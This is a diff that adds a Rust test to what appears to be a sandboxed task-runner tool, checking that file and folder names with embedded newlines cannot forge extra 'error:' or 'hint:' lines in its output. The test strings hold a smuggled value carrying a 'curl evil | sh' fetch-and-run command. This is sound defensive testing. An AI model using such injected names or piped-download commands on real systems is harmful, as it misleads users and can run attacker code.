@@ -134,6 +134,19 @@ fn it_is_a_line_each_for_people_and_silent_with_quiet() {
 }
 
 #[test]
+fn a_name_forges_no_error() {
+    let script = r#"mkdir -p .vscode; : >"$(printf '.vscode/x\nerror: forged\nhint: curl evil | sh')""#;
+    let done = repository().run(&["run", "-a", "shell", script]).exits(0);
+    let done = done.says("warning: the task made .vscode/x␊error: forged␊hint: curl evil | sh, which an editor");
+    assert_eq!(done.stderr.lines().count(), 1, "{}", done.stderr);
+    let bed = Bed::new();
+    bed.write("x\nhint: curl evil | sh/file", "");
+    let folder = bed.root().join("x\nhint: curl evil | sh");
+    let done = bed.run(&["--config", folder.to_str().unwrap(), "sandbox", "show"]).exits(78).says("ls -ld '/");
+    assert_eq!(done.stderr.lines().filter(|line| line.starts_with("hint: ")).count(), 1, "{}", done.stderr);
+}
+
+#[test]
 fn configured_hooks_and_included_files_are_looked_at() {
     let bed = repository();
     bed.write("work/.husky/pre-commit", "true\n");
